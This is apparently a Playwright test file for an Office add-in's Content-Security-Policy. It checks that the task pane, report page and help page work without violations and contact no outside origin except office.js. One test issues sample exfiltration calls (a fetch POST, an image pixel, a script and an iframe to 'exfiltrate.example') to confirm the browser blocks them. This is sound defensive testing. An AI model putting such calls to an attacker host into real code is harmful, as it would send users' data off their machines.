// The built pages' Content-Security-Policy in Chromium: the pane and the report page work under it without a violation, a request to another origin is refused and reported, and a whole pane run sends nothing off this computer.
import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { parseReportData } from '../../src/core/data/schema';
import { buildWorkbookPlan } from '../../src/core/layout/build-workbook-plan';
import { planToWorkbook } from '../../src/hosts/cli/xlsx/write-plan';
import { encodeFragment } from '../../src/hosts/pane/fragment-codec';
import { UI_TEXT } from '../../src/core/i18n/messages';
import { ADDIN_DIST, launchChromium, runPane, serveStatic } from './helpers/pane-harness';
import { tempDir } from '../helpers/temp-dir';
import { buildAddin } from './helpers/built-addin';

const ROOT = resolve(__dirname, '../..');
const OFFICE_JS = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';
/**
 * The hidden frame office.js inserts for a host not on its trusted list (Office Online Server on an
 * organisation's domain): `getOfficeJsBasePath() + 'AgaveErrorUX/index.html#' + …`, in office.js's
 * own code (node_modules/@microsoft/office-js/dist/excel-web-16.00.debug.js, "hostUserTrustIframe").
 */
const OFFICE_FRAME = 'https://appsforoffice.microsoft.com/lib/1/hosted/AgaveErrorUX/index.html';

jest.setTimeout(300_000);

/** The policy of a built page, directive → sources. */
function policyOf(html: string): Map<string, string[]> {
  const content = /<meta http-equiv="?Content-Security-Policy"? content="([^"]+)"/i.exec(html)?.[1] ?? '';
  return new Map(
    content
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name = '', ...sources]) => [name, sources] as const),
  );
}

interface Violation {
  readonly directive: string;
  readonly blocked: string;
}

/** Every securitypolicyviolation event of every page of the context, reported from before any script of the page runs. */
const violations: Violation[] = [];

async function recordViolations(context: BrowserContext): Promise<void> {
  await context.exposeFunction('__reportCsp', (v: Violation) => void violations.push(v));
  await context.addInitScript(() => {
    const report = (window as unknown as { __reportCsp: (v: { directive: string; blocked: string }) => void }).__reportCsp;
    document.addEventListener('securitypolicyviolation', (e) => report({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
}

/** Waits until `n` violations have come in (they are reported asynchronously). */
async function violationsAtLeast(page: Page, n: number): Promise<void> {
  for (let i = 0; i < 100 && violations.length < n; i++) await page.waitForTimeout(50);
}

describe('Content-Security-Policy of the built pages (Chromium)', () => {
  let server: { url: string; close: () => Promise<void> };
  let browser: BrowserContext;
  const work = tempDir('cchc-csp-');

  beforeAll(async () => {
    buildAddin();
    server = await serveStatic(ADDIN_DIST);
    browser = await launchChromium();
    await recordViolations(browser);
  });

  beforeEach(() => {
    violations.length = 0;
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it('is the first thing in each page: scripts from here (and Office), no connection, no plugin, no base', () => {
    for (const [html, scripts] of [
      ['taskpane.html', ["'self'", 'https://appsforoffice.microsoft.com']],
      ['report.html', ["'self'"]],
      ['help.html', ["'self'"]],
    ] as const) {
      const text = readFileSync(join(ADDIN_DIST, html), 'utf8');
      const policy = policyOf(text);
      expect({ html, script: policy.get('script-src') }).toEqual({ html, script: scripts });
      // Frames: office.js's own check on the pane, nothing on the report page (default-src 'self').
      expect({ html, frame: policy.get('frame-src') }).toEqual({ html, frame: html === 'taskpane.html' ? ['https://appsforoffice.microsoft.com/lib/1/hosted/AgaveErrorUX/'] : undefined });
      expect({ html, style: policy.get('style-src'), connect: policy.get('connect-src'), object: policy.get('object-src'), base: policy.get('base-uri') }).toEqual({
        html,
        style: ["'self'"],
        connect: ["'none'"],
        object: ["'none'"],
        base: ["'none'"],
      });
      // A policy applies only to what follows it in the document.
      const meta = text.search(/<meta http-equiv="?Content-Security-Policy/i);
      expect(meta).toBeGreaterThan(0);
      expect(meta).toBeLessThan(text.search(/<(?:script|link)\b/i));
    }
    // The copied Fabric styles fetch no web font from Microsoft's CDN.
    expect(readFileSync(join(ADDIN_DIST, 'assets/fabric.min.css'), 'utf8')).not.toMatch(/@font-face|\.woff/);
  });

  it('a whole pane run (open, check, report, download) works without a violation and sends nothing to another origin', async () => {
    const parsed = parseReportData(JSON.parse(readFileSync(join(ROOT, 'examples/xa-hoa-phong.json'), 'utf8')));
    if (!parsed.ok) throw new Error(parsed.problems.join('; '));
    const workbook = join(work, 'xa-hoa-phong.xlsx');
    writeFileSync(workbook, Buffer.from(await (await planToWorkbook(buildWorkbookPlan(parsed.data))).xlsx.writeBuffer()));
    const requests: string[] = [];
    const refused: string[] = [];
    const onRequest = (r: { url: () => string }): void => void requests.push(r.url());
    const onConsole = (m: { text: () => string }): void => {
      if (/Content Security Policy/i.test(m.text())) refused.push(m.text());
    };
    browser.on('request', onRequest);
    browser.on('console', onConsole);
    try {
      const run = await runPane(browser, server.url, workbook, join(work, 'report.docx'));
      expect(readFileSync(run.downloadPath).subarray(0, 2).toString()).toBe('PK');
    } finally {
      browser.off('request', onRequest);
      browser.off('console', onConsole);
    }
    expect(refused).toEqual([]);
    expect(violations).toEqual([]);
    const own = new URL(server.url).origin;
    // Everything came from the pane's own origin (or blob: for the download); only office.js is asked of Office's CDN, before any data is read.
    const elsewhere = requests.filter((u) => !u.startsWith(own) && !u.startsWith('blob:') && !u.startsWith('data:'));
    expect(elsewhere).toEqual([OFFICE_JS]);
    expect(requests.length).toBeGreaterThan(3);
  });

  it('refuses and reports a request to another origin: fetch, an image, a script', async () => {
    const page = await browser.newPage();
    const answered: string[] = [];
    const failed = new Map<string, string>();
    page.on('response', (r) => answered.push(r.url()));
    page.on('requestfailed', (r) => failed.set(r.url(), r.failure()?.errorText ?? ''));
    await page.goto(`${server.url}taskpane.html`);
    await page.waitForSelector('body[data-ready="standalone"]');
    const fetchFailed = await page.evaluate(async () => {
      try {
        await fetch('https://exfiltrate.example/collect', { method: 'POST', body: 'dữ liệu' });
        return false;
      } catch {
        return true;
      }
    });
    await page.evaluate(() => {
      new Image().src = 'https://exfiltrate.example/pixel.png';
      const s = document.createElement('script');
      s.src = 'https://exfiltrate.example/evil.js';
      document.head.appendChild(s);
    });
    // Reported asynchronously: wait for all three before the next test starts counting.
    await violationsAtLeast(page, 3);
    expect(fetchFailed).toBe(true);
    expect(violations).toEqual(
      expect.arrayContaining([
        { directive: 'connect-src', blocked: 'https://exfiltrate.example/collect' },
        { directive: 'img-src', blocked: 'https://exfiltrate.example/pixel.png' },
        { directive: 'script-src-elem', blocked: 'https://exfiltrate.example/evil.js' },
      ]),
    );
    // Refused by the policy in the browser, before the network: no answer, each one failed as blocked by CSP.
    expect(answered.filter((u) => u.includes('exfiltrate.example'))).toEqual([]);
    for (const [url, why] of failed) if (url.includes('exfiltrate.example')) expect({ url, csp: /csp/i.test(why) }).toEqual({ url, csp: true });
    await page.close();
  });

  it("allows office.js's own hidden frame and no other frame; office.js's telemetry is refused", async () => {
    const page = await browser.newPage();
    // Office's CDN answers the frame here (the context aborts it otherwise); any other page of it would be answered too.
    await page.route('https://appsforoffice.microsoft.com/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>x</title><p id="loaded">ok</p>' }),
    );
    await page.goto(`${server.url}taskpane.html`);
    await page.waitForSelector('body[data-ready="standalone"]');
    const frame = async (src: string): Promise<boolean> =>
      page.evaluate(async (url) => {
        // As office.js does: a hidden iframe appended to the body.
        const f = document.createElement('iframe');
        f.style.visibility = 'hidden';
        f.style.height = '0';
        f.style.width = '0';
        document.body.appendChild(f);
        f.src = url;
        await new Promise((ok) => setTimeout(ok, 500));
        return true;
      }, src);
    await frame(`${OFFICE_FRAME}#${encodeURIComponent(JSON.stringify({ error: 'NotTrustedWAC', locale: 'vi-VN', hostname: 'oos.example.vn' }))}`);
    const office = page.frames().find((f) => f.url().startsWith(OFFICE_FRAME));
    expect(await office?.locator('#loaded').textContent()).toBe('ok');
    expect(violations).toEqual([]);
    await frame('https://exfiltrate.example/frame.html');
    await frame('https://appsforoffice.microsoft.com/lib/1/hosted/other.html');
    const telemetry = await page.evaluate(async () => {
      try {
        await fetch('https://browser.pipe.aria.microsoft.com/Collector/3.0/', { method: 'POST', body: '{}' });
        return 'sent';
      } catch {
        return 'refused';
      }
    });
    await violationsAtLeast(page, 3);
    expect(telemetry).toBe('refused');
    // Chromium reports a refused frame by its origin only (the navigation is cross-origin).
    expect(violations).toEqual(
      expect.arrayContaining([
        { directive: 'frame-src', blocked: 'https://exfiltrate.example' },
        { directive: 'frame-src', blocked: 'https://appsforoffice.microsoft.com' },
        { directive: 'connect-src', blocked: 'https://browser.pipe.aria.microsoft.com/Collector/3.0/' },
      ]),
    );
    expect(violations).toHaveLength(3);
    // Neither refused frame got its page: only office.js's frame was loaded.
    const loaded = await Promise.all(page.frames().map(async (f) => ((await f.locator('#loaded').count()) > 0 ? f.url() : null)));
    expect(loaded.filter((u) => u !== null).map((u) => u!.split('#')[0])).toEqual([OFFICE_FRAME]);
    await page.close();
  });

  it('the help page (SupportUrl) shows its Vietnamese texts from the catalogue, without a script, a violation or a request elsewhere', async () => {
    const page = await browser.newPage();
    const sent: string[] = [];
    page.on('request', (r) => sent.push(r.url()));
    await page.goto(`${server.url}help.html`);
    expect(await page.title()).toBe(UI_TEXT.help.title);
    expect(await page.locator('h1').textContent()).toBe(UI_TEXT.help.title);
    expect(await page.locator('h2').allTextContents()).toEqual(UI_TEXT.help.sections.map((s) => s.heading));
    expect(await page.locator('#help p').count()).toBe(1 + UI_TEXT.help.sections.reduce((n, s) => n + s.paragraphs.length, 0));
    expect(await page.locator('script').count()).toBe(0);
    await page.waitForTimeout(200);
    expect(violations).toEqual([]);
    const own = new URL(server.url).origin;
    expect(sent.filter((u) => !u.startsWith(own))).toEqual([]);
    await page.close();
  });

  it('the report page rebuilds and downloads the report from its fragment without a violation', async () => {
    const parsed = parseReportData(JSON.parse(readFileSync(join(ROOT, 'examples/xa-hoa-phong.json'), 'utf8')));
    if (!parsed.ok) throw new Error(parsed.problems.join('; '));
    const page = await browser.newPage();
    const sent: string[] = [];
    page.on('request', (r) => sent.push(r.url()));
    const fragment = await encodeFragment({ data: parsed.data, draft: false });
    const [download] = await Promise.all([page.waitForEvent('download', { timeout: 60_000 }), page.goto(`${server.url}report.html#${fragment}`)]);
    expect(download.suggestedFilename()).toMatch(/\.docx$/);
    expect(violations).toEqual([]);
    const own = new URL(server.url).origin;
    expect(sent.filter((u) => !u.startsWith(own) && !u.startsWith('blob:'))).toEqual([]);
    await page.close();
  });
});
